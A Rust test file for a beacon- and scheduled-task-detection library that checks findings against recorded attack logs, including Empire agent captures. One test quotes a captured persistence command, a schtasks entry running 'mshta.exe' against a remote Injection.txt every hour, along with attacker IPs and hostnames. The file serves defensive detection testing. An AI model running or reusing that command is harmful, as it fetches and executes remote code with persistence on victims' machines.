//! AN1113 end to end on real exports: the mshta scheduled task and its creator's Sysmon 3
//! connections, the OTRF Empire agents tied to their PowerShell process, and coverage per file.
mod common;

use beaconstat::an1113::{An1113Builder, An1113Report, Direction, JoinBasis, Launcher, NetworkSource};
use beaconstat::lineage::{CreationMethod, TaskRole};
use beaconstat::{Interval, Timestamp};
use std::path::Path;

fn report(files: &[&Path]) -> An1113Report {
    let mut b = An1113Builder::new();
    for f in files {
        let id = b.file(&f.display().to_string());
        let (_, skipped) = common::read_events(f, |rec| b.push_record(rec, id));
        assert_eq!(skipped, 0, "{}", f.display());
    }
    b.build()
}

fn codes(r: &An1113Report, host: &str) -> Vec<String> {
    let c = r.coverage.iter().find(|c| c.host == host).unwrap();
    c.blind_spots.iter().map(|b| b.code.clone()).collect()
}

/// mshta (reached through cmd → rundll32) talks to 108.179.232.58:443 and runs
/// `schtasks /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://…/Injection.txt"`:
/// the connections are the creator's, tied to the task it made.
#[test]
fn mshta_task_and_its_creators_connections() {
    let Some(dir) = common::data("tasks_evtx_attack") else {
        return;
    };
    let file = dir.join("exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx");
    let r = report(&[&file]);
    // Three Sysmon 3 connections of one mshta.exe, to three addresses: one finding each.
    assert_eq!(r.findings.len(), 3, "{:#?}", r.findings);
    assert!(r.findings.iter().all(|f| {
        f.chain
            .as_ref()
            .and_then(|c| c.task.as_ref())
            .is_some_and(|t| t.name == r"\MSOFFICE_")
    }));
    let f = r.findings.iter().find(|f| f.destination.port == Some(443)).unwrap();
    assert_eq!(f.host, "IEWIN7");
    assert_eq!(f.src, "10.0.2.15");
    assert_eq!(f.destination.addr, "108.179.232.58");
    assert_eq!(f.destination.name.as_deref(), Some("gator4243.hostgator.com"));
    assert_eq!(f.direction, Direction::Outbound);
    assert_eq!(f.source, NetworkSource::Sysmon3);
    assert_eq!(f.join, JoinBasis::ProcessGuid);
    let p = f.process.as_ref().unwrap();
    assert_eq!(p.image.as_deref(), Some(r"C:\Windows\System32\mshta.exe"));
    assert_eq!(p.pid, Some(2432));
    assert_eq!(p.guid.as_deref(), Some("{365abb72-1a29-5ce4-0000-001079f92101}"));
    // The chain: mshta ← rundll32 ← cmd (whose parent, an interactive cmd, is not in the data).
    let c = f.chain.as_ref().unwrap();
    let images: Vec<_> = c.processes.iter().map(|p| p.image.as_deref().unwrap()).collect();
    assert_eq!(
        images,
        [
            r"C:\Windows\System32\mshta.exe",
            r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\System32\cmd.exe"
        ]
    );
    assert_eq!(c.unresolved_parent.as_deref(), Some(r"C:\Windows\System32\cmd.exe"));
    // The task: created by schtasks (child of this mshta) as IEUser, hourly, running mshta.
    let t = c.task.as_ref().unwrap();
    assert_eq!(t.role, TaskRole::CreatorAncestor);
    assert_eq!(t.method, CreationMethod::Schtasks);
    assert_eq!(t.creator_user.as_deref(), Some(r"IEWIN7\IEUser"));
    assert_eq!(
        t.creator_chain,
        ["schtasks.exe", "mshta.exe", "rundll32.exe", "cmd.exe"]
    );
    let cmd = t.creator_command_line.as_deref().unwrap();
    assert!(cmd.contains("/sc MINUTE /MO 60 /TN MSOFFICE_"), "{cmd}");
    assert_eq!(
        t.action.as_deref(),
        Some("mshta.exe https://hotelesms.com/Injection.txt")
    );
    assert_eq!(t.trigger_interval, Some(Interval::from_secs(3600)));
    assert_eq!(t.created, Timestamp::parse_rfc3339("2019-05-21T15:32:59.729Z"));
    assert_eq!(t.runs, 0);
    // Sysmon 3 UtcTime on this build is 8.5 h off its own record's TimeCreated: the join uses
    // the record time, so the connection falls 0.34 s before the task's creation.
    let logged = Timestamp::parse_rfc3339("2019-05-21T15:32:59.389Z").unwrap();
    assert!(
        (f.report.first - logged).as_micros().abs() < 100_000,
        "{}",
        f.report.first
    );
    assert_eq!(f.evidence.starts_after_creation, Some(false));
    assert!(f.references[0].file.ends_with(".evtx") && f.references[0].record_id == Some(4128));
    // Not periodic (one connection), but tied to a task's creator: reported, low.
    assert!(
        f.severity
            .reasons
            .iter()
            .any(|r| r.contains(r"tied to task \MSOFFICE_")),
        "{:?}",
        f.severity
    );
    // Coverage: Sysmon 1/3/11 only.
    let cov = &r.coverage[0];
    assert_eq!(
        (cov.telemetry.sysmon1, cov.telemetry.sysmon3, cov.telemetry.task_files),
        (4, 3, 1)
    );
    assert_eq!(cov.joins.network_to_process.share(), Some(1.0));
    assert_eq!(
        codes(&r, "IEWIN7"),
        ["no_task_creation", "no_task_runs", "no_process_dns"]
    );
    assert!(cov.an1113.possible, "{:?}", cov.an1113);
}

/// Empire agents (`Delay 5`, 0 jitter) in powershell.exe on WORKSTATION5 calling 10.10.10.5:80
/// (Sysmon 3 and Security 5156 of the same process, which started before the capture).
#[test]
fn otrf_empire_agents_tied_to_their_powershell() {
    let Some(dir) = common::data("otrf_empire_sysmon") else {
        return;
    };
    for (zip, host, pid) in [
        (
            "empire_dllinjection_LoadLibrary_CreateRemoteThread.zip",
            "WORKSTATION5.mordor.local",
            9076,
        ),
        (
            "empire_mimikatz_logonpasswords.zip",
            "WORKSTATION5.theshire.local",
            1648,
        ),
    ] {
        // The zip as OTRF ships it, through the reader layer.
        let r = report(&[&dir.join(zip)]);
        let f = r
            .findings
            .iter()
            .find(|f| f.destination.addr == "10.10.10.5")
            .unwrap_or_else(|| panic!("{zip}: no finding to 10.10.10.5"));
        assert_eq!(f.host, host, "{zip}");
        assert_eq!(f.destination.port, Some(80));
        let p = f.process.as_ref().unwrap();
        assert_eq!(p.pid, Some(pid), "{zip}");
        assert!(
            p.image
                .as_deref()
                .unwrap()
                .to_ascii_lowercase()
                .ends_with(r"\powershell.exe")
        );
        let period = f.report.period.unwrap().as_secs_f64();
        assert!((period - 5.1).abs() < 0.5, "{zip}: period {period}");
        assert!(f.report.score >= 0.5, "{zip}: {}", f.report.score);
        // No process creation for it in the capture: a background process, joined by its PID.
        assert_eq!(f.join, JoinBasis::ProcessNotInData);
        assert_eq!(f.chain.as_ref().unwrap().launcher, Launcher::BackgroundProcess);
        // Sysmon 3 and 5156 of the same connections are one series, not two.
        assert_eq!(
            r.findings.iter().filter(|g| g.destination.addr == "10.10.10.5").count(),
            1,
            "{zip}"
        );
        let cov = r.coverage.iter().find(|c| c.host == host).unwrap();
        assert!(
            cov.telemetry.sysmon3 > 0 && cov.telemetry.security5156 > 0,
            "{zip}: {:?}",
            cov.telemetry
        );
        assert!(cov.an1113.possible, "{zip}");
    }
}

/// Coverage of the remote task modification capture: task updates and runs, process and
/// network events, and what is missing.
#[test]
fn otrf_schtask_modification_coverage() {
    let Some(dir) = common::data("tasks_otrf") else { return };
    let r = report(&[&dir.join("schtask_modification_2020-12-1907505969.json")]);
    let w6 = r.coverage.iter().find(|c| c.host.starts_with("WORKSTATION6")).unwrap();
    assert!(w6.telemetry.task_updated > 0, "{:?}", w6.telemetry);
    let w5 = r.coverage.iter().find(|c| c.host.starts_with("WORKSTATION5")).unwrap();
    assert!(w5.telemetry.task_runs >= 6, "{:?}", w5.telemetry);
    assert!(w5.joins.run_to_process.joined >= 1, "{:?}", w5.joins);
}

/// The telemetry counts of a host's coverage, in the library's order
/// (`TelemetryPresence::counts`): task created, updated, runs; Sysmon 1, 4688, with command
/// lines; Sysmon 3, 5156, network without process, host-level; Sysmon 22; TaskCache
/// registry, task files.
fn counts(c: &beaconstat::an1113::HostCoverage) -> [u64; 13] {
    c.telemetry.counts().map(|(_, n)| n)
}

/// Coverage on the two other OTRF task captures, host by host: what is present, the blind
/// spots, AN1113's answer; a host's short name and its FQDN (PowerShell logs one, Sysmon the
/// other) are one host.
#[test]
fn otrf_coverage_on_each_file() {
    let Some(dir) = common::data("tasks_otrf") else { return };
    let r = report(&[&dir.join("schtask_create_2020-12-1907003032.json")]);
    let hosts: Vec<_> = r.coverage.iter().map(|c| c.host.as_str()).collect();
    assert_eq!(hosts, ["WORKSTATION5.theshire.local", "WORKSTATION6.theshire.local"]);
    let (w5, w6) = (&r.coverage[0], &r.coverage[1]);
    assert_eq!(counts(w5), [0, 0, 0, 6, 6, 12, 2, 8, 0, 0, 1, 0, 0]);
    assert_eq!(codes(&r, &w5.host), ["no_task_creation", "no_task_runs"]);
    assert_eq!(counts(w6), [2, 1, 0, 4, 4, 8, 4, 7, 0, 0, 0, 15, 1]);
    assert_eq!(codes(&r, &w6.host), ["no_task_runs", "no_process_dns"]);
    assert!(w5.an1113.possible && w6.an1113.possible);

    let r = report(&[&dir.join("empire_shell_rubeus_asktgt_createnetonly_2020-09-21230246.json")]);
    let hosts: Vec<_> = r.coverage.iter().map(|c| c.host.as_str()).collect();
    assert_eq!(
        hosts,
        [
            "WORKSTATION6.theshire.local",
            "WORKSTATION5.theshire.local",
            "MORDORDC.theshire.local"
        ]
    );
    let (w6, w5, dc) = (&r.coverage[0], &r.coverage[1], &r.coverage[2]);
    assert_eq!(counts(w6), [4, 1, 4, 11, 11, 22, 4, 18, 0, 0, 1, 68, 2]);
    assert!(w6.blind_spots.is_empty(), "{:?}", w6.blind_spots);
    assert_eq!((w6.joins.run_to_process.joined, w6.joins.run_to_process.total), (5, 5));
    assert_eq!(codes(&r, &w5.host), ["no_task_runs"]);
    // The domain controller logged only 5156: transmission visible, automation not.
    assert_eq!(counts(dc), [0, 0, 0, 0, 0, 0, 0, 22, 0, 0, 0, 0, 0]);
    assert!(!dc.an1113.possible);
    assert_eq!(dc.an1113.why_not.len(), 1, "{:?}", dc.an1113);
    assert!(dc.an1113.why_not[0].contains("recurring automation is not visible"));
}
